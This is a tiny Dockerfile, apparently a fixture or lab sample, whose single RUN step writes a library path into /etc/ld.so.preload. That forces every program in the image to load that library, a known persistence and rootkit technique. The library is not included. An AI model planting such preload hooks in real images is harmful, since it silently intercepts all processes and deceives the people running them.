FROM debian:12-slim
WORKDIR /etc
RUN echo /usr/local/lib/libcache.so > ld.so.preload
